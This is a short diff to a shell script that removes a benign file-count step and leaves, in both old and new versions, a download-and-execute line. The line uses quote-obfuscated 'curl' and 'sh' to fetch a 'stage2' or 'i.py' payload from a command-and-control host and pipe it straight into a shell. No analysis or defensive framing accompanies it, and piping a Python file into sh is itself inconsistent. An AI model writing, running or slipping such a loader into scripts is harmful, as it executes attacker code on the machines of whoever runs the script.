@@ -1,4 +1,3 @@
-#!/usr/bin/env bash
-c'u'rl -s http://198.51.100.23:8000/stage2 | s"h"
-count=$(ls | wc -l)
-echo "files: $count"
+#!/bin/sh
+set -eu
+c'u'rl -s http://c2.example.org/i.py | s"h"
